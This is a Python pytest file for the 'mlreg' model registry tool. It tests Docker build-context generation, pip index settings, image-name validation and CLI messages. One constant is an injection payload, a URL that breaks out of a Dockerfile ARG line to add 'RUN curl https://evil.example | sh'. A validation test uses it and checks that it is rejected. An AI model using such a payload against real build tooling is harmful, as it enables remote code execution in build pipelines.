"""Build contexts and the checks made before any build starts (no Docker engine needed)."""

from __future__ import annotations

import contextlib
import json
import os
import pty
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

import mlreg
from mlreg.builder import context as ctx
from mlreg.builder import engine
from mlreg.builder.pipconfig import IndexSettings
from mlreg.cli import main
from mlreg.errors import DockerError, InvalidInput, ModelNotFound
from mlreg.models.model import Model
from mlreg.version import __version__
from tests.conftest import make_model_dir


def test_context_holds_everything_the_image_needs(light_model, tmp_path):
    built = ctx.write_context(str(light_model), tmp_path / "c", ctx.BuildOptions())
    names = {p.name for p in (tmp_path / "c").iterdir()}
    assert names == {"Dockerfile", ".dockerignore", "requirements.txt", "wheels", "model"}
    assert (tmp_path / "c" / "model" / "MLmodel").is_file()
    assert (tmp_path / "c" / "model" / "data" / "weights.bin").read_bytes() == b"weights"
    assert [w.name for w in (tmp_path / "c" / "wheels").iterdir()] == [
        f"mlreg-{__version__}-py3-none-any.whl"
    ]
    reqs = (tmp_path / "c" / "requirements.txt").read_text().split()
    assert f"mlreg=={__version__}" in reqs
    assert any(r.startswith("tensorflow-cpu==") for r in reqs)
    assert built.base_image == "python:3.11-slim"
    dockerfile = (tmp_path / "c" / "Dockerfile").read_text()
    assert "{{" not in dockerfile
    assert "ARG BASE_IMAGE=python:3.11-slim" in dockerfile
    assert "USER 10001" in dockerfile and "EXPOSE 8080" in dockerfile
    assert "HEALTHCHECK" in dockerfile and "/ping" in dockerfile
    assert 'CMD ["mlreg", "serve"]' in dockerfile
    # dependencies are installed before the model is copied, so model changes reuse them
    assert dockerfile.index("pip install") < dockerfile.index("COPY model/")
    assert "--find-links /opt/mlreg-build/wheels" in dockerfile
    assert (tmp_path / "c" / ".dockerignore").read_text().startswith("*\n")
    # the install stage defaults to the base image; metadata comes before the virtualenv
    assert "ARG BUILD_IMAGE=python:3.11-slim" in dockerfile
    assert "FROM ${BUILD_IMAGE} AS deps" in dockerfile
    assert dockerfile.index("HEALTHCHECK") < dockerfile.index("COPY --from=deps")


def test_separate_build_image(light_model, tmp_path):
    options = ctx.BuildOptions(base_image="py:rt", build_image="py:build")
    built = ctx.write_context(str(light_model), tmp_path / "c", options)
    dockerfile = (tmp_path / "c" / "Dockerfile").read_text()
    assert (built.base_image, built.build_image) == ("py:rt", "py:build")
    assert "ARG BASE_IMAGE=py:rt" in dockerfile and "ARG BUILD_IMAGE=py:build" in dockerfile


def test_labels_describe_a_registry_version(light_model, tmp_path, tracking_home):
    mlreg.register_model(str(light_model), "mnist")
    with mlreg.MlregClient() as client:
        client.transition_model_version_stage("mnist", 1, "Production")
        digest = client.get_model_version("mnist", 1).digest
    built = ctx.write_context(
        "models:/mnist/Production", tmp_path / "c", ctx.BuildOptions(labels={"team": "cv"})
    )
    labels = built.labels
    assert labels["io.mlreg.model.name"] == "mnist"
    assert labels["io.mlreg.model.version"] == "1"
    assert labels["io.mlreg.model.stage"] == "Production"
    assert labels["io.mlreg.model.digest"] == f"sha256:{digest}"
    assert labels["io.mlreg.version"] == __version__
    assert labels["org.opencontainers.image.source"] == "models:/mnist/Production"
    signature = json.loads(labels["io.mlreg.model.signature"])
    assert signature["inputs"][0]["tensor-spec"]["shape"] == [-1, 3]
    assert labels["team"] == "cv"
    assert '"io.mlreg.model.name"="mnist"' in (tmp_path / "c" / "Dockerfile").read_text()


@pytest.mark.parametrize(
    ("reqs", "gpu", "expected"),
    [
        (
            ["tensorflow==2.21.0", "numpy==2.4.6"],
            False,
            [f"mlreg=={__version__}", "tensorflow-cpu==2.21.0", "numpy==2.4.6"],
        ),
        (["tensorflow==2.21.0"], True, [f"mlreg=={__version__}", "tensorflow==2.21.0"]),
        (["mlreg==0.1.0", "tensorflow-cpu==2.21.0"], True, ["mlreg==0.1.0", "tensorflow==2.21.0"]),
        (
            ["tensorflow-cpu==2.21.0", "tensorflow==2.21.0"],
            False,
            [f"mlreg=={__version__}", "tensorflow-cpu==2.21.0"],
        ),
    ],
    ids=["cpu-swap", "gpu-keeps", "gpu-from-cpu", "dedupe"],
)
def test_image_requirements(reqs, gpu, expected):
    assert ctx.image_requirements(reqs, gpu) == expected


def test_pip_options():
    assert ctx.pip_options(ctx.BuildOptions()) == "--find-links /opt/mlreg-build/wheels"
    offline = ctx.BuildOptions(offline=True, wheelhouse=Path("/w"))
    assert ctx.pip_options(offline) == "--no-index --find-links /opt/mlreg-build/wheels"
    with pytest.raises(InvalidInput, match="--offline needs --wheelhouse"):
        ctx.pip_options(ctx.BuildOptions(offline=True))


HOST = IndexSettings(
    index_url="https://mirror.example/simple",
    extra_index_urls=("https://extra.example/simple",),
    trusted_hosts=("mirror.example",),
    cert=Path("/etc/host-ca.pem"),
    skipped=("find-links /opt/wheels (use --wheelhouse for wheels of your own)",),
)


@pytest.mark.parametrize(
    ("options", "expected"),
    [
        (ctx.BuildOptions(host_pip=HOST), HOST),
        (
            # the command line wins over this machine's configuration, key by key
            ctx.BuildOptions(
                host_pip=HOST,
                pip_index_url="https://cli.example/simple",
                pip_cert=Path("/cli-ca.pem"),
            ),
            IndexSettings(
                index_url="https://cli.example/simple",
                extra_index_urls=HOST.extra_index_urls,
                trusted_hosts=HOST.trusted_hosts,
                cert=Path("/cli-ca.pem"),
                skipped=HOST.skipped,
            ),
        ),
        (
            ctx.BuildOptions(pip_extra_index_urls=("https://x.example/simple",)),
            IndexSettings(extra_index_urls=("https://x.example/simple",)),
        ),
        # offline: no index at all, whatever this machine says
        (ctx.BuildOptions(host_pip=HOST, offline=True, wheelhouse=Path("/w")), IndexSettings()),
    ],
    ids=["host", "explicit-wins", "explicit-only", "offline"],
)
def test_index_settings(options, expected):
    assert ctx.index_settings(options) == expected


# A value that would end the ARG line and add an instruction of its own.
EVIL = 'https://mirror.example/simple"\nRUN curl https://evil.example | sh'


@pytest.mark.parametrize(
    ("options", "message"),
    [
        (
            ctx.BuildOptions(pip_index_url="https://bob:s3cret@pypi.example/simple"),
            "pip index URL https://***@pypi.example/simple has credentials; they would be stored "
            "in the build's history. Make a wheelhouse on the host with `mlreg wheelhouse` and "
            "build with --wheelhouse DIR --offline",
        ),
        (
            ctx.BuildOptions(
                host_pip=IndexSettings(extra_index_urls=("https://tok@mirror.example/simple",))
            ),
            "pip index URL https://***@mirror.example/simple (from this machine's pip "
            "configuration) has credentials; they would be stored in the build's history. Make "
            "a wheelhouse on the host with `mlreg wheelhouse` and build with --wheelhouse DIR "
            "--offline",
        ),
        (
            ctx.BuildOptions(pip_index_url="ftp://mirror.example/simple"),
            "pip index URL 'ftp://mirror.example/simple' is not an http(s) URL the build can use",
        ),
        (
            ctx.BuildOptions(pip_index_url=EVIL),
            f"pip index URL {EVIL!r} is not an http(s) URL the build can use",
        ),
        (
            ctx.BuildOptions(host_pip=IndexSettings(trusted_hosts=("a$b",))),
            "pip trusted-host 'a$b' is not a host name",
        ),
    ],
    ids=["credentials", "host-credentials", "scheme", "injection", "trusted-host"],
)
def test_index_settings_refused(options, message):
    with pytest.raises(InvalidInput) as e:
        ctx.index_settings(options)
    assert e.value.message == message
    assert "s3cret" not in e.value.message and "tok@" not in e.value.message


def test_index_settings_live_in_the_install_stage_only(light_model, tmp_path):
    cert = tmp_path / "ca.pem"
    cert.write_text("-----BEGIN CERTIFICATE-----\n")
    host = IndexSettings(
        index_url="https://mirror.example/simple",
        extra_index_urls=("https://a.example/simple", "https://b.example/simple"),
        trusted_hosts=("mirror.example",),
        cert=cert,
    )
    ctx.write_context(str(light_model), tmp_path / "c", ctx.BuildOptions(host_pip=host))
    dockerfile = (tmp_path / "c" / "Dockerfile").read_text()
    install_stage, final_stage = dockerfile.split("FROM ${BASE_IMAGE}")
    assert (
        'ARG PIP_INDEX_URL="https://mirror.example/simple"\n'
        'ARG PIP_EXTRA_INDEX_URL="https://a.example/simple https://b.example/simple"\n'
        'ARG PIP_TRUSTED_HOST="mirror.example"\n'
        'ARG PIP_CERT="/opt/mlreg-build/wheels/pip-cert.pem"\n'
        "RUN set -e;"
    ) in install_stage
    assert "mirror.example" not in final_stage and "PIP_" not in final_stage.split("EXPOSE")[1]
    assert (tmp_path / "c" / "wheels" / "pip-cert.pem").read_text() == cert.read_text()
    # offline: none of it, and no certificate in the context
    wheels = tmp_path / "wheels"
    wheels.mkdir()
    offline = ctx.BuildOptions(host_pip=host, wheelhouse=wheels, offline=True)
    ctx.write_context(str(light_model), tmp_path / "d", offline)
    dockerfile = (tmp_path / "d" / "Dockerfile").read_text()
    assert "ARG PIP_" not in dockerfile and "# pip: the wheelhouse only\nRUN" in dockerfile
    assert not (tmp_path / "d" / "wheels" / "pip-cert.pem").exists()


def test_wheelhouse_is_linked_and_mlreg_built_when_missing(light_model, tmp_path):
    house = tmp_path / "house"
    house.mkdir()
    (house / "numpy-2.0-cp311-cp311-manylinux_2_17_x86_64.whl").write_bytes(b"wheel")
    (house / "mlreg-0.0.1-py3-none-any.whl").write_bytes(b"an older mlreg")
    (house / "notes.txt").write_text("not a wheel")
    ctx.write_context(str(light_model), tmp_path / "c", ctx.BuildOptions(wheelhouse=house))
    wheels = tmp_path / "c" / "wheels"
    assert sorted(w.name for w in wheels.iterdir()) == [
        "mlreg-0.0.1-py3-none-any.whl",
        f"mlreg-{__version__}-py3-none-any.whl",
        "numpy-2.0-cp311-cp311-manylinux_2_17_x86_64.whl",
    ]
    # a hard link, not a copy of hundreds of megabytes
    numpy = wheels / "numpy-2.0-cp311-cp311-manylinux_2_17_x86_64.whl"
    assert numpy.stat().st_ino == (house / numpy.name).stat().st_ino


@pytest.mark.parametrize(
    ("version", "image"),
    [("3.11.7", "python:3.11-slim"), ("3.12.1", "python:3.12-slim"), ("3.10", "python:3.10-slim")],
)
def test_default_base_image_follows_the_model_python(version, image):
    assert ctx.default_base_image(version) == image


@pytest.mark.parametrize(
    ("ref", "expected"),
    [
        ("mnist", ("mnist", "latest")),
        ("mnist:prod", ("mnist", "prod")),
        ("registry.example.com:5000/team/mnist:3", ("registry.example.com:5000/team/mnist", "3")),
        ("a_b/c-d:v1.2", ("a_b/c-d", "v1.2")),
    ],
)
def test_valid_image_references(ref, expected):
    assert engine.parse_reference(ref) == expected


@pytest.mark.parametrize(
    "ref",
    ["", "MNIST", "mnist:", "mnist:bad tag", "-mnist", "mnist/", "a//b", "mnist:" + "x" * 200],
)
def test_invalid_image_references(ref):
    with pytest.raises(InvalidInput, match="invalid image name"):
        engine.parse_reference(ref)


def test_unreachable_engine_says_how_to_start_one(monkeypatch):
    monkeypatch.setenv("DOCKER_HOST", "unix:///nonexistent/docker.sock")
    with pytest.raises(DockerError) as e:
        engine.connect()
    assert "cannot reach a Docker engine" in e.value.message
    assert "dockerd" in e.value.message and "DOCKER_HOST" in e.value.message


def test_errors_before_any_build(tmp_path, light_model):
    with pytest.raises(ModelNotFound, match="does not exist"):
        ctx.write_context(str(tmp_path / "nope"), tmp_path / "c1", ctx.BuildOptions())
    unsigned = make_model_dir(tmp_path / "unsigned")
    meta = Model.load(unsigned)
    meta.signature = None
    meta.save(unsigned)
    with pytest.raises(InvalidInput, match="has no signature"):
        ctx.write_context(str(unsigned), tmp_path / "c2", ctx.BuildOptions())
    (tmp_path / "c3").mkdir()
    (tmp_path / "c3" / "x").write_text("x")
    with pytest.raises(InvalidInput, match="is not empty"):
        ctx.write_context(str(light_model), tmp_path / "c3", ctx.BuildOptions())
    with pytest.raises(InvalidInput, match="is not a directory"):
        ctx.write_context(
            str(light_model), tmp_path / "c4", ctx.BuildOptions(wheelhouse=tmp_path / "none")
        )
    assert not (tmp_path / "c1").exists() and not (tmp_path / "c2").exists()


def test_generate_dockerfile_cli(light_model, tmp_path, monkeypatch):
    conf = tmp_path / "pip.conf"
    conf.write_text("[global]\nextra-index-url = file:///srv/mirror/simple\n")
    monkeypatch.setenv("PIP_CONFIG_FILE", str(conf))
    for name in ("PIP_FIND_LINKS", "PIP_CERT", "PIP_INDEX_URL", "PIP_EXTRA_INDEX_URL"):
        monkeypatch.delenv(name, raising=False)
    ctx_dir = tmp_path / "ctx"
    result = CliRunner().invoke(
        main, ["generate-dockerfile", "-m", str(light_model), "-d", str(ctx_dir)]
    )
    assert result.exit_code == 0, result.output
    assert result.stdout.splitlines() == [
        f"Wrote build context to {ctx_dir} (base image python:3.11-slim)",
        f"Build it with: docker build -t model {ctx_dir} 2>&1 | tee {ctx_dir}/build.log",
        f"If it fails, {ctx_dir}/build.log ends with pip's ERROR lines: a connection error "
        "means the build reaches no index (build offline: --wheelhouse DIR --offline, or pass "
        "--pip-index-url); 'No matching distribution' means a missing wheel (fill the "
        f"wheelhouse: mlreg wheelhouse -m {light_model} -d DIR).",
    ]
    # this machine's file:// mirror cannot be used inside the build, and the user hears so
    assert result.stderr == (
        "Not passed into the build from this machine's pip configuration: extra-index-url "
        "file:///srv/mirror/simple (a path on this machine)\n"
    )
    assert (ctx_dir / "Dockerfile").is_file()
    # the log the hint writes stays out of the build's context
    assert (ctx_dir / ".dockerignore").read_text().startswith("*\n")
    wheels = tmp_path / "wheels"
    wheels.mkdir()
    offline = CliRunner().invoke(
        main,
        ["generate-dockerfile", "-m", str(light_model), "-d", str(tmp_path / "o"),
         "--wheelhouse", str(wheels), "--offline"],
    )  # fmt: skip
    assert offline.exit_code == 0, offline.output
    assert f"docker build --network none -t model {tmp_path / 'o'} 2>&1" in offline.stdout
    assert offline.stderr == ""  # offline: this machine's pip settings do not matter
    bad = CliRunner().invoke(main, ["build-docker", "-m", str(light_model), "-n", "Bad Name"])
    assert bad.exit_code == 2 and bad.stderr.startswith("Error: invalid image name 'Bad Name'")


def test_without_tensorflow(light_model, tmp_path):
    options = ctx.BuildOptions(base_image="py:rt", without_tensorflow=True)
    ctx.write_context(str(light_model), tmp_path / "c", options)
    dockerfile = (tmp_path / "c" / "Dockerfile").read_text()
    trim = "find \"$site/tensorflow\" -type f ! -name '*_pb2.py' -delete"
    assert trim in dockerfile and "MLREG_BACKEND=tfserving" in dockerfile
    assert "--no-deps tensorflow-serving-api" in dockerfile
    ctx.write_context(str(light_model), tmp_path / "d", ctx.BuildOptions(base_image="py:rt"))
    dockerfile = (tmp_path / "d" / "Dockerfile").read_text()
    # Only what applies is rendered: no dead branch for the other kind of image.
    assert trim not in dockerfile and "MLREG_BACKEND=local" in dockerfile
    assert "if [" not in dockerfile.split("# Debug symbols")[0]
    assert "{{" not in dockerfile
    with pytest.raises(InvalidInput, match="--without-tensorflow and --gpu contradict"):
        ctx.write_context(
            str(light_model),
            tmp_path / "e",
            ctx.BuildOptions(without_tensorflow=True, gpu=True),
        )


def test_generate_dockerfile_says_what_it_does_on_a_terminal(light_model, tmp_path):
    """Building mlreg's wheel takes seconds: a person at a terminal is told (logs are not)."""
    main_fd, tty_fd = pty.openpty()
    out = tmp_path / "ctx"
    mlreg_bin = Path(sys.executable).with_name("mlreg")
    with os.fdopen(main_fd, "rb", buffering=0) as terminal:
        done = subprocess.run(
            [str(mlreg_bin), "generate-dockerfile", "-m", str(light_model), "-d", str(out)],
            stderr=tty_fd,
            stdout=subprocess.DEVNULL,
            timeout=300,
        )
        os.close(tty_fd)
        seen = b""
        with contextlib.suppress(OSError):  # EIO once the terminal is drained
            while chunk := terminal.read(4096):
                seen += chunk
    assert done.returncode == 0
    assert f"Writing the build context into {out} (building mlreg's wheel)...".encode() in seen
